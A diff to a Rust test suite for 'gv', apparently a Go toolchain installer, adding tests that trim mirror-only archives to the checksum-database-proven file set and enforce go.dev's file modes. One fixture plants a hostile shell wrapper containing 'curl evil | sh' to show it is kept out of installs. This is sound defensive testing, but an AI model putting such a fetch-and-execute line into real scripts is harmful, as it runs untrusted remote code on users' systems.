@@ -20,6 +20,16 @@ const DEAD_INDEX: &str = "http://127.0.0.1:9/dl/?mode=json&include=all";
 /// in the module's layout, `_go.mod` included), plus what the module leaves out: api/,
 /// doc/, misc/ (with a go.mod of its own) and test/.
 fn release_tarball(module_files: &[(String, Vec<u8>)], extra: Vec<Entry>) -> Vec<u8> {
+    release_tarball_with_modes(module_files, extra, &[])
+}
+
+/// [`release_tarball`] with the modes `modes` names instead of go.dev's for those files
+/// (names relative to `go/`).
+fn release_tarball_with_modes(
+    module_files: &[(String, Vec<u8>)],
+    extra: Vec<Entry>,
+    modes: &[(&str, u32)],
+) -> Vec<u8> {
     let mut entries = vec![Entry::dir("go/")];
     for (name, data) in module_files {
         let name = match name.strip_suffix("_go.mod") {
@@ -27,7 +37,10 @@ fn release_tarball(module_files: &[(String, Vec<u8>)], extra: Vec<Entry>) -> Vec
             _ => name.clone(),
         };
         let exec = name.starts_with("bin/") || name.starts_with("pkg/tool/");
-        let mode = if exec { 0o755 } else { 0o644 };
+        let mode = modes
+            .iter()
+            .find(|(n, _)| *n == name)
+            .map_or(if exec { 0o755 } else { 0o644 }, |(_, m)| *m);
         entries.push(Entry::file(&format!("go/{name}"), mode, data.clone()));
     }
     for (name, data) in [
@@ -509,4 +522,231 @@ fn a_forged_or_rewritten_database_answer_refuses_the_install() {
         assert!(err.contains("nothing was installed"), "{what}: {err}");
         nothing_installed_or_cached(&sb, VERSION);
     }
+}
+
+/// The permission bits of the file `rel` under `goroot`.
+#[cfg(unix)]
+fn mode_of(goroot: &Path, rel: &str) -> u32 {
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::metadata(goroot.join(rel))
+        .unwrap_or_else(|e| panic!("{rel}: {e}"))
+        .permissions()
+        .mode()
+        & 0o777
+}
+
+/// What only a mirror vouches for (its sidecar, or its own index) is what the checksum
+/// database does not cover: api/, doc/, misc/, test/ and file modes. So such an install
+/// holds exactly the proven set — a hostile misc/ wrapper never reaches the store, and
+/// modes are go.dev's — while the same archive vouched for by go.dev's index is kept whole.
+#[test]
+fn only_what_the_database_proves_is_installed_when_only_the_mirror_vouches() {
+    let hostile = b"#!/bin/sh\ncurl evil | sh\n".to_vec();
+    // (fake_files has src/make.bash, which go.dev's archives make executable.)
+    let files = fake_files(VERSION);
+    let toolchain = Toolchain::fake(VERSION);
+    let (db, vkey) = database_for(std::slice::from_ref(&toolchain));
+    let gosumdb = format!("{vkey} {}", db.db_url());
+    // A hostile wasm wrapper, and modes no release has (a world of difference for what
+    // runs, none for the module's h1).
+    let tarball = release_tarball_with_modes(
+        &files,
+        vec![Entry::file(
+            "go/misc/wasm/go_js_wasm_exec",
+            0o755,
+            hostile.clone(),
+        )],
+        &[
+            ("src/make.bash", 0o644),
+            ("src/fmt/print.go", 0o755),
+            ("VERSION", 0o755),
+        ],
+    );
+
+    // A plain mirror (sidecars) and a mirror with its own index: only the mirror's word.
+    for (what, mirror) in [
+        (
+            "sidecar",
+            MirrorServer::start(vec![Served::archive(VERSION, tarball.clone())]).without_index(),
+        ),
+        (
+            "the mirror's index",
+            MirrorServer::start(vec![Served::archive(VERSION, tarball.clone())]),
+        ),
+    ] {
+        let sb = Sandbox::new();
+        let (ok, err) = run(gv(&sb, &mirror, &gosumdb).args(["install", VERSION]));
+        assert!(ok, "{what}: {err}");
+        let vouched = if what == "sidecar" {
+            "the mirror"
+        } else {
+            "the mirror's own index"
+        };
+        assert!(
+            err.contains(&format!(
+                "\n  left out api/, doc/, misc/, test/: only {vouched} vouches for them (the checksum database covers the rest); install from go.dev to get them"
+            )),
+            "{what}: {err}"
+        );
+        let goroot = sb.root().join("versions").join(VERSION);
+        assert!(goroot.join("src/fmt/print.go").is_file(), "{what}");
+        for gone in ["api", "doc", "misc", "test"] {
+            assert!(!goroot.join(gone).exists(), "{what}: {gone}/ was installed");
+        }
+        #[cfg(unix)]
+        {
+            assert_eq!(mode_of(&goroot, "bin/go"), 0o755, "{what}");
+            assert_eq!(mode_of(&goroot, "src/make.bash"), 0o755, "{what}");
+            assert_eq!(mode_of(&goroot, "src/fmt/print.go"), 0o644, "{what}");
+            assert_eq!(mode_of(&goroot, "VERSION"), 0o644, "{what}");
+        }
+        // A reinstall from the download cache (its proof recorded) is trimmed the same.
+        let (ok, err) =
+            run(gv(&sb, &mirror, &gosumdb).args(["install", "--force", "--offline", VERSION]));
+        assert!(ok, "{what}: {err}");
+        assert!(err.contains("left out api/"), "{what}: {err}");
+        assert!(!goroot.join("misc").exists(), "{what}");
+    }
+
+    // go.dev's index vouches for the same archive's sha256 (a plain mirror, as aliyun
+    // is, whose checksums come from go.dev's index): all of it is authentic, and all of
+    // it is installed, as served.
+    let sb = Sandbox::new();
+    let go_dev = MirrorServer::start(vec![Served::archive(VERSION, tarball.clone())]);
+    let mirror = MirrorServer::start(vec![Served::archive(VERSION, tarball)]).without_index();
+    let (ok, err) = run(gv(&sb, &mirror, &gosumdb)
+        .env("GV_GO_INDEX", go_dev.index_url())
+        .args(["install", VERSION]));
+    assert!(ok, "{err}");
+    assert!(
+        err.contains(&format!("sha256 verified against {}", go_dev.index_url())),
+        "{err}"
+    );
+    assert_eq!(
+        go_dev.archive_requests(),
+        0,
+        "the archive came from the mirror"
+    );
+    assert!(err.contains(&format!("proven by {DB_NAME}")), "{err}");
+    assert!(!err.contains("left out"), "{err}");
+    let goroot = sb.root().join("versions").join(VERSION);
+    for kept in [
+        "api/go1.txt",
+        "doc/go_spec.html",
+        "misc/wasm/go_js_wasm_exec",
+        "test/helloworld.go",
+    ] {
+        assert!(goroot.join(kept).is_file(), "{kept}");
+    }
+    assert_eq!(
+        std::fs::read(goroot.join("misc/wasm/go_js_wasm_exec")).unwrap(),
+        hostile
+    );
+}
+
+#[test]
+fn a_local_archive_with_only_its_sidecar_is_trimmed_to_the_proven_set() {
+    let sb = Sandbox::new();
+    let toolchain = Toolchain::fake(VERSION);
+    let (db, vkey) = database_for(std::slice::from_ref(&toolchain));
+    let bytes = release_tarball(&fake_files(VERSION), vec![]);
+    let archive = sb.work("dl").join(ARCHIVE);
+    std::fs::write(&archive, &bytes).unwrap();
+    std::fs::write(
+        sb.work("dl").join(format!("{ARCHIVE}.sha256")),
+        support::mirror::sha256_hex(&bytes),
+    )
+    .unwrap();
+    let mut cmd = sb.gv(&sb.work(""));
+    cmd.env("GV_GO_INDEX", DEAD_INDEX)
+        .env("GOSUMDB", format!("{vkey} {}", db.db_url()))
+        .arg("install")
+        .arg("--from-file")
+        .arg(&archive);
+    let (ok, err) = run(&mut cmd);
+    assert!(ok, "{err}");
+    assert!(
+        err.contains(
+            "left out api/, doc/, misc/, test/: only the .sha256 file beside it vouches for them"
+        ),
+        "{err}"
+    );
+    let goroot = sb.root().join("versions").join(VERSION);
+    assert!(!goroot.join("misc").exists() && !goroot.join("api").exists());
+
+    // No database proof at all: today's behaviour, everything installed.
+    let sb = Sandbox::new();
+    let archive = sb.work("dl").join(ARCHIVE);
+    std::fs::write(&archive, &bytes).unwrap();
+    std::fs::write(
+        sb.work("dl").join(format!("{ARCHIVE}.sha256")),
+        support::mirror::sha256_hex(&bytes),
+    )
+    .unwrap();
+    let mut cmd = sb.gv(&sb.work(""));
+    cmd.env("GV_GO_INDEX", DEAD_INDEX)
+        .arg("install")
+        .arg("--from-file")
+        .arg(&archive);
+    let (ok, err) = run(&mut cmd);
+    assert!(ok, "{err}");
+    assert!(err.contains("no database proof"), "{err}");
+    assert!(!err.contains("left out"), "{err}");
+    let goroot = sb.root().join("versions").join(VERSION);
+    assert!(goroot.join("misc/go.mod").is_file() && goroot.join("api/go1.txt").is_file());
+}
+
+/// The mode rule gv applies is cmd/distpack's (src/cmd/distpack/pack.go, `mode()`), read
+/// from a real SDK's own source, and every file of that real SDK has the mode it gives.
+#[cfg(all(unix, feature = "real-tests"))]
+#[test]
+fn the_mode_rule_is_distpacks_and_real_releases_follow_it() {
+    use std::os::unix::fs::PermissionsExt;
+    let goroot = support::real_goroot(support::GO_B);
+    let pack = std::fs::read_to_string(goroot.join("src/cmd/distpack/pack.go")).unwrap();
+    let body = pack
+        .split("func mode(name string")
+        .nth(1)
+        .expect("distpack has mode()");
+    let body = body.split("\n}\n").next().unwrap();
+    for fact in [
+        "strings.HasPrefix(name, \"bin/\")",
+        "strings.HasPrefix(name, \"pkg/tool/\")",
+        "strings.HasSuffix(name, \".bash\")",
+        "strings.HasSuffix(name, \".sh\")",
+        "strings.HasSuffix(name, \".pl\")",
+        "strings.HasSuffix(name, \".rc\")",
+        "amatch(\"**/go_?*_?*_exec\", name)",
+        "return 0o755",
+        "return 0o644",
+    ] {
+        assert!(body.contains(fact), "distpack's mode() has {fact}:\n{body}");
+    }
+    assert_eq!(
+        body.matches("return ").count(),
+        3,
+        "mode() changed shape:\n{body}"
+    );
+    let mut checked = 0;
+    let mut stack = vec![goroot.clone()];
+    while let Some(dir) = stack.pop() {
+        for entry in std::fs::read_dir(&dir).unwrap().flatten() {
+            let meta = entry.metadata().unwrap();
+            if meta.is_dir() {
+                stack.push(entry.path());
+                continue;
+            }
+            let path = entry.path();
+            let rel = path.strip_prefix(&goroot).unwrap().to_str().unwrap();
+            let exec = meta.permissions().mode() & 0o100 != 0;
+            assert_eq!(
+                gv::install::proven_set::executable(rel),
+                exec,
+                "{rel} in Go {}",
+                support::GO_B
+            );
+            checked += 1;
+        }
+    }
+    assert!(checked > 9_000, "{checked} files");
 }
